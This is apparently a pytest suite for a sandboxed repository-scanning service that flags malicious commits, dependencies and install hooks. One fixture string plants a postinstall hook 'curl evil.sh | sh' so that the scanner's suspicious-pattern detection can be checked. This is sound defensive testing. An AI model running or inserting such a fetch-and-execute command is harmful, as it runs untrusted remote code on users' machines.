import threading

import pytest

from sandscan.engine.errors import InvalidInput, NotFound, RepositoryNotFound
from sandscan.engine.job_manager import JobManager
from tests.conftest import REPO_URL, FakeOracleClient, api_error


def run_job(manager, repo_url=REPO_URL, project_type="nodejs"):
    """Start a job with a firehose subscription attached and return (job, its events)."""
    bus = manager.services.bus
    sub = bus.subscribe(None)
    job_id = manager.start_analysis(repo_url, project_type)
    assert manager.wait(job_id, timeout=15)
    bus.unsubscribe(sub)
    events = [e for e in sub.drain() if e.job_id == job_id]
    return manager.get_details(job_id), events


def of_kind(events, kind):
    return [e for e in events if e.kind == kind]


def test_successful_analysis(manager, docker_client):
    job, events = run_job(manager)

    assert job.status == "completed"
    assert job.progress == 100
    assert job.started_at is not None and job.finished_at is not None
    assert len(job.commits) == 3
    assert all(c.verdict is not None for c in job.commits)
    assert {d.name for d in job.dependencies} == {"express", "jest"}
    # commits 10 -> 10, deps low -> 25, no alerts: (4 + 8.75) / 0.75
    assert (job.risk_score, job.risk_level) == (17, "low")
    assert job.build_info.success is True
    assert job.repo_info.full_name == "acme/widget"
    assert job.repo_info.total_commits == 3
    assert job.report_file is not None
    assert job.ai_summary.overall_threat == "low"


def test_events_end_with_single_done(manager):
    job, events = run_job(manager)

    done = of_kind(events, "done")
    assert len(done) == 1
    assert events[-1].kind == "done"
    assert done[0].data["risk_score"] == job.risk_score
    assert done[0].data["summary"]["total_alerts"] == 0
    sequences = [e.sequence for e in events]
    assert sequences == sorted(sequences)


def test_progress_is_monotonic(manager):
    _, events = run_job(manager)

    percentages = [e.data["percentage"] for e in of_kind(events, "progress")]
    assert percentages == sorted(percentages)
    assert percentages[0] == 5
    assert percentages[-1] == 100
    stages = [e.data["stage"] for e in of_kind(events, "progress")]
    assert stages[0] == "cloning"
    assert stages[-1] == "completed"
    assert "analyzing" in stages


def test_persisted_logs_match_published_logs(manager):
    job, events = run_job(manager)

    published = [e.data["message"] for e in of_kind(events, "log")]
    assert published == [entry.message for entry in job.logs]


def test_sandbox_released_before_done(manager, docker_client):
    bus = manager.services.bus
    sub = bus.subscribe(None)
    seen_active = []

    def watch():
        for event in sub:
            if event.kind == "done":
                seen_active.append(len(manager.services.sandbox.active_handles()))
                return

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    job_id = manager.start_analysis(REPO_URL, "nodejs")
    manager.wait(job_id, timeout=15)
    watcher.join(5)
    bus.unsubscribe(sub)

    assert seen_active == [0]
    container = docker_client.containers.created[0]
    assert container.removed
    assert manager.services.fetcher.cleaned == [job_id]


def test_high_risk_signals_raise_alerts(manager, oracle_client):
    oracle_client.commit = {"riskScore": 95, "threats": ["obfuscated payload"], "confidence": "90%", "summary": "Injected loader"}
    oracle_client.dependency = {
        "riskLevel": "critical",
        "threats": ["known malicious"],
        "typosquatting": {"isTyposquat": True, "similarPackages": ["expresss"], "confidence": 0.8},
        "confidence": 0.9,
    }

    job, events = run_job(manager)

    commit_alerts = [a for a in job.alerts if a.type == "commit"]
    assert len(commit_alerts) == 3
    assert all(a.severity == "critical" for a in commit_alerts)
    dep_alerts = [a for a in job.alerts if a.type == "dependency"]
    # one tier alert and one typosquatting alert per dependency
    assert len(dep_alerts) == 4
    assert sorted(a.severity for a in dep_alerts) == ["critical", "critical", "high", "high"]
    assert job.commit_issues == 3
    assert job.dependency_issues == 2
    assert job.risk_level == "critical"
    assert len(of_kind(events, "alert")) == len(job.alerts)

    summary = of_kind(events, "done")[0].data["summary"]
    assert summary["critical_alerts"] == 5
    assert summary["commit_issues"] == 3
    assert summary["dependency_issues"] == 2


def test_unreachable_repository_fails_cleanly(manager, fetcher, docker_client):
    fetcher.error = RepositoryNotFound("Repository not found or not accessible")

    job, events = run_job(manager)

    assert job.status == "failed"
    assert "not found" in job.error
    assert job.build_info.success is False
    assert job.build_info.errors == [job.error]
    assert docker_client.containers.created == []
    assert manager.services.sandbox.active_handles() == []
    done = of_kind(events, "done")
    assert len(done) == 1
    assert done[0].data["risk_score"] == 0
    assert done[0].data["risk_level"] == "unknown"
    assert "not found" in done[0].data["error"]
    assert any(entry.level == "error" for entry in job.logs)


def test_oracle_unavailable_uses_fallback_verdicts(manager, oracle_client):
    oracle_client.unavailable = True

    job, _ = run_job(manager)

    assert job.status == "completed"
    assert all(c.risk_score == 25 for c in job.commits)
    assert all(c.verdict.confidence == 0.1 and c.verdict.fallback for c in job.commits)
    assert all(d.risk_level == "medium" for d in job.dependencies)
    assert job.ai_summary.fallback is True
    # commits 25 -> 10, deps medium -> 17.5: 27.5 / 0.75
    assert (job.risk_score, job.risk_level) == (37, "medium")


def test_sandbox_provision_failure_fails_job(services):
    services.sandbox.client.start_status = "created"
    manager = JobManager(services)

    job, events = run_job(manager)

    assert job.status == "failed"
    assert "failed to start" in job.error
    assert services.sandbox.client.containers.created[0].removed
    assert services.sandbox.active_handles() == []
    assert len(of_kind(events, "done")) == 1


def test_analysis_timeout_is_reported_not_fatal(services, docker_client):
    services.settings.sandbox_exec_timeout = 0.5
    docker_client.api.handler = lambda cmd: "hang" if cmd[-1].endswith("analyze") else (1, "", "gone")
    manager = JobManager(services)

    job, _ = run_job(manager)

    assert job.status == "completed"
    runtime = [a for a in job.alerts if a.type == "runtime"]
    assert len(runtime) == 1
    assert runtime[0].severity == "high"
    assert job.build_info.warnings


def test_sandbox_suspicious_patterns_raise_runtime_alert(services, docker_client):
    docker_client.api.files["analysis-output/suspicious-patterns.txt"] = (
        "=== SUSPICIOUS PATTERNS ===\nWARNING: install hook 'postinstall' runs: curl evil.sh | sh\n"
    )
    manager = JobManager(services)

    job, _ = run_job(manager)

    runtime = [a for a in job.alerts if a.type == "runtime"]
    assert len(runtime) == 1
    assert runtime[0].severity == "medium"
    assert runtime[0].details["count"] == 1


def test_teardown_error_does_not_hide_result(services, docker_client):
    original_create = docker_client.containers.create

    def create(image, **kwargs):
        container = original_create(image, **kwargs)
        container.stop_error = api_error(500, "daemon hiccup")
        return container

    docker_client.containers.create = create
    manager = JobManager(services)

    job, events = run_job(manager)

    assert job.status == "completed"
    assert any("teardown failed" in entry.message for entry in job.logs)
    assert len(of_kind(events, "done")) == 1


def test_concurrent_jobs_are_independent(manager, docker_client):
    bus = manager.services.bus
    subs = {}
    first = manager.start_analysis(REPO_URL, "nodejs")
    subs[first] = bus.subscribe(first)
    second = manager.start_analysis("git@github.com:acme/gadget.git", "nodejs")
    subs[second] = bus.subscribe(second)

    assert manager.wait(first, timeout=15)
    assert manager.wait(second, timeout=15)

    jobs = [manager.get_details(first), manager.get_details(second)]
    assert [j.status for j in jobs] == ["completed", "completed"]
    assert jobs[1].repo_info.full_name == "acme/gadget"
    assert len(docker_client.containers.created) == 2
    assert len({c.kwargs["name"] for c in docker_client.containers.created}) == 2
    for job_id, sub in subs.items():
        assert all(e.job_id == job_id for e in sub.drain())


def test_store_failure_does_not_block_live_events(services):
    real_save = services.store.save

    def flaky_save(job):
        if job.status == "analyzing":
            raise RuntimeError("disk full")
        real_save(job)

    services.store.save = flaky_save
    manager = JobManager(services)

    _, events = run_job(manager)

    done = of_kind(events, "done")
    assert len(done) == 1
    assert done[0].data["risk_level"] in ("low", "medium", "high", "critical")


@pytest.mark.parametrize("repo_url,project_type", [
    ("", "nodejs"),
    (REPO_URL, ""),
    (REPO_URL, "ruby"),
    ("not a repository", "python"),
    ("ftp://github.com/acme/widget", "python"),
])
def test_invalid_input_creates_no_job(manager, docker_client, repo_url, project_type):
    with pytest.raises(InvalidInput):
        manager.start_analysis(repo_url, project_type)
    assert manager.list_jobs() == []
    assert docker_client.containers.created == []


def test_unknown_job_raises_not_found(manager):
    with pytest.raises(NotFound):
        manager.get_status("does-not-exist")
    with pytest.raises(NotFound):
        manager.get_details("does-not-exist")
    with pytest.raises(NotFound):
        manager.cancel("does-not-exist")


def test_cancel_running_job(services):
    gate = threading.Event()
    services.oracle.client = FakeOracleClient(gate=gate)
    manager = JobManager(services)
    sub = services.bus.subscribe(None)

    job_id = manager.start_analysis(REPO_URL, "nodejs")
    assert manager.cancel(job_id) is True
    gate.set()
    assert manager.wait(job_id, timeout=15)

    job = manager.get_details(job_id)
    assert job.status == "failed"
    assert job.error == "Analysis cancelled"
    assert services.sandbox.active_handles() == []
    assert len([e for e in sub.drain() if e.kind == "done"]) == 1
    assert manager.cancel(job_id) is False


def test_list_jobs_returns_summaries(manager):
    run_job(manager)
    run_job(manager, repo_url="https://github.com/acme/other")

    jobs = manager.list_jobs(limit=10)
    assert len(jobs) == 2
    assert {j.status for j in jobs} == {"completed"}
    assert manager.list_jobs(status="failed") == []
    assert len(manager.list_jobs(limit=1)) == 1


def test_start_analysis_returns_before_completion(services):
    gate = threading.Event()
    services.oracle.client = FakeOracleClient(gate=gate)
    manager = JobManager(services)

    job_id = manager.start_analysis(REPO_URL, "nodejs")
    status = manager.get_status(job_id)
    assert status.status in ("pending", "cloning", "analyzing")
    assert manager.is_running(job_id)

    gate.set()
    assert manager.wait(job_id, timeout=15)
    assert not manager.is_running(job_id)



class BrokenMetadataClient:
    def fetch_metadata(self, reference):
        return {"stars": 3}

    def fetch_contributors(self, reference):
        raise AttributeError("'str' object has no attribute 'get'")


def test_metadata_failure_does_not_fail_job(manager):
    manager.services.metadata = BrokenMetadataClient()

    job, events = run_job(manager)

    assert job.status == "completed"
    assert job.repo_info.full_name == "acme/widget"
    assert job.repo_info.contributors == []
    assert any("metadata unavailable" in log.message for log in job.logs if log.level == "warn")
